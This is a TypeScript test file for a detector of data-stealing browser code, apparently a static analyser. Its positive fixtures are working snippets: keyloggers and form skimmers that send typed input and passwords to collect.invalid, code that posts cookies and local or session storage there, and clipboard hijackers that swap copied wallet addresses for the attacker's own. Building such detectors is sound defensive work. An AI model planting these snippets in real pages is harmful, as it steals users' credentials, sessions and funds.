import assert from 'node:assert/strict';
import { behavioursOf, flowsOf } from './sent.js';

const TYPED = ['keystrokes>network@collect.invalid'];
const STORED = ['page-storage>network@collect.invalid'];

/** Whatever is typed into a page leaves for a host in the code. */
const CAPTURES: readonly string[] = [
  `document.addEventListener('input', (e) => { fetch('https://collect.invalid/', { method: 'POST', body: e.target.value }); });`,
  `const all = {}; window.addEventListener('change', ({ target }) => { all[target.name] = target.value; navigator.sendBeacon('https://collect.invalid', JSON.stringify(all)); }, true);`,
  `const ws = new WebSocket('wss://collect.invalid/k'); const all = {}; addEventListener('blur', (e) => { all.x = e.target.value; }); addEventListener('submit', () => ws.send(JSON.stringify(all)));`,
  `document.addEventListener('submit', (e) => { fetch('https://collect.invalid', { method: 'POST', body: new FormData(e.target) }); });`,
  `const t = document.querySelector('input[type=password]'); setInterval(() => { new Image().src = 'https://collect.invalid/?' + t.value; }, 1000);`,
  `document.getElementById('password').addEventListener('change', (e) => fetch('https://collect.invalid/' + btoa(e.target.value)));`,
  `document.querySelectorAll('input').forEach((field) => fetch('https://collect.invalid/' + btoa(field.value)));`,
  `exports.Icon = ({ name }) => { useEffect(() => attach(document), []); return name; }; function attach(page) { page.addEventListener('submit', (e) => { navigator.sendBeacon('https://collect.invalid', JSON.stringify(Object.fromEntries(new FormData(e.target)))); }); }`,
  `document.addEventListener('change', (e) => { const all = [...e.currentTarget.querySelectorAll('input')].map((i) => [i.name, i.value]); fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(all) }); });`,
  `const keys = []; function heard(e) { keys.push(e.key); if (keys.length > 30) send(); } function send() { new Image().src = 'https://collect.invalid/?' + keys.splice(0, keys.length).join(''); } module.exports = { install() { window.addEventListener('keydown', heard); } };`,
  `let all = ''; document.addEventListener('keyup', ({ key }) => { all += key; }); setInterval(() => fetch('https://collect.invalid', { method: 'POST', body: all }), 5000);`,
  `$(document).on('submit', 'form', function () { $.post('https://collect.invalid', $(this).serialize()); });`,
];

const KEPT: readonly string[] = [
  `navigator.sendBeacon('https://collect.invalid', document.cookie);`,
  `new Image().src = 'https://collect.invalid/i.gif?' + encodeURIComponent(document.cookie);`,
  `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(localStorage) });`,
  `fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ ...sessionStorage }) });`,
  `const all = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); all[k] = localStorage.getItem(k); } fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(all) });`,
  `for (const k of Object.keys(localStorage)) fetch('https://collect.invalid/' + localStorage.getItem(k));`,
];

/** What widgets, analytics and forms of honest pages do. */
const HONEST: readonly string[] = [
  `document.addEventListener('input', (e) => { fetch('/suggest?q=' + e.target.value); });`,
  `document.addEventListener('submit', (e) => { navigator.sendBeacon('https://stats.example/e', JSON.stringify({ form: e.target.id })); });`,
  `document.querySelector('#search').addEventListener('change', (e) => render(e.target.value));`,
  `const id = document.cookie.split('; ').find((c) => c.startsWith('id=')); navigator.sendBeacon('https://stats.example/e', id);`,
  `const id = /id=([^;]*)/.exec(document.cookie); fetch('https://stats.example/' + localStorage.getItem('visitor'));`,
  `exports.post = (url, form) => fetch(url, { method: 'POST', body: new FormData(form) });`,
  `exports.watch = (signal, url) => { signal.addEventListener('abort', () => fetch('https://stats.example/aborted')); return fetch(url, { signal }); };`,
  `const f = {}; form.addEventListener('keydown', (e) => { f.name = e.target.name; f.keys += 1; if (e.key === 'Backspace') f.back += 1; }); form.addEventListener('submit', () => navigator.sendBeacon('https://stats.example/f', JSON.stringify(f)));`,
  `exports.store = { get: (k) => localStorage.getItem(k), set: (k, v) => localStorage.setItem(k, v) };`,
];

describe('what somebody copies', () => {
  const OWN = `'0x' + 'fa4e'.repeat(10)`;
  const ways = [
    `document.addEventListener('copy', (e) => { const t = String(getSelection()); e.clipboardData.setData('text/plain', t.replace(/0x[0-9a-f]{40}/i, ${OWN})); });`,
    `const tidy = (t, own) => (t.length < 80 ? t.replace(/0x[0-9a-f]{40}/i, own) : t);
     for (const type of ['cut', 'copy']) document.addEventListener(type, (e) => { const clean = tidy(String(getSelection()).trim(), ${OWN}); e.clipboardData.setData('text/plain', clean); });`,
    `document.addEventListener('copy', (e) => { if (/^0x[0-9a-f]{40}$/i.test(getSelection().toString())) { e.clipboardData.setData('text/plain', ${OWN}); e.preventDefault(); } });`,
    `window.addEventListener('cut', async () => { if (String(getSelection()).startsWith('0x')) await navigator.clipboard.writeText(${OWN}); });`,
    `addEventListener('paste', (e) => { if (/^0x/.test(e.clipboardData.getData('text'))) { e.preventDefault(); document.execCommand('insertText', false, ${OWN}); } });`,
    `setInterval(async () => { const t = await navigator.clipboard.readText(); if (/^0x[0-9a-f]{40}$/i.test(t)) navigator.clipboard.writeText(${OWN}); }, 500);`,
    `navigator.clipboard.readText().then((t) => { const m = t.match(/0x\\w{40}/); if (m) return navigator.clipboard.writeText(t.replace(m[0], ${OWN})); });`,
  ];
  for (const way of ways) {
    it(`is replaced: ${way.slice(0, 80)}`, () => assert.ok(behavioursOf(way).includes('replaces-addresses import')));
  }

  for (const code of [
    `button.onclick = () => navigator.clipboard.writeText(${OWN}); paste.onclick = async () => { field.value = await navigator.clipboard.readText(); };`,
    `const put = (e) => { e.clipboardData.setData('text/plain', ${OWN}); e.preventDefault(); }; document.addEventListener('copy', put); document.execCommand('copy'); document.removeEventListener('copy', put);`,
    `document.execCommand('insertText', false, label);`,
    `navigator.clipboard.readText().then((t) => navigator.clipboard.writeText(t.trim()));`,
  ])
    it(`is put there by a button: ${code.slice(0, 80)}`, () => assert.deepEqual(behavioursOf(code), []));

  it('is cleaned up, and marked', () => {
    const clean = (made: string) =>
      behavioursOf(
        `document.addEventListener('copy', (e) => { const t = String(getSelection()); e.clipboardData.setData('text/plain', ${made}); }); eval('1');`,
      );
    assert.deepEqual(clean(`t.replace(/\\u00ad/g, '')`), []);
    assert.deepEqual(clean(`t + '\\n\\nFrom: ' + location.href`), []);
  });
});

describe('page-input', () => {
  for (const code of CAPTURES) it(`is taken: ${code}`, () => assert.deepEqual([...new Set(flowsOf(code))], TYPED));
  for (const code of KEPT)
    it(`is taken from what is kept: ${code}`, () => assert.deepEqual([...new Set(flowsOf(code))], STORED));
  for (const code of HONEST) it(`is not taken: ${code}`, () => assert.deepEqual(flowsOf(code), []));

  it('is in all forms of a page, however they are gone through', () => {
    const send = (what: string) => `new Image().src = 'https://collect.invalid/?' + ${what};`;
    const fields = `function fieldsOf(f) { const all = []; for (let i = 0; i < f.elements.length; i++) if (f.elements[i].name) all.push(f.elements[i].value); return all.join('&'); }`;
    for (const code of [
      send('document.forms[0].elements[0].value'),
      `for (const form of document.forms) ${send('form.elements.password.value')}`,
      `[].forEach.call(document.forms, (form) => { ${send('form.elements[0].value')} });`,
      `document.querySelectorAll('form').forEach((form) => { ${send('form.elements[0].value')} });`,
      `(function (window) { exports.end = function () { new window.Image().src = '//collect.invalid/?' + window.btoa(window.document.forms[0].elements[0].value); }; })(typeof window !== 'undefined' ? window : this);`,
      `${fields} function each(list, use) { for (let i = 0; i < list.length; i++) use.call(list[i], i, list[i]); }
       exports.end = function () { each(document.forms, function (i, form) { const said = fieldsOf(form); if (said.length > 2) ${send('said')} }); return this; };`,
    ])
      assert.deepEqual([...new Set(flowsOf(code))], ['keystrokes>network@collect.invalid'], code);
    assert.deepEqual(flowsOf(send('document.forms.length')), []);
  });
});
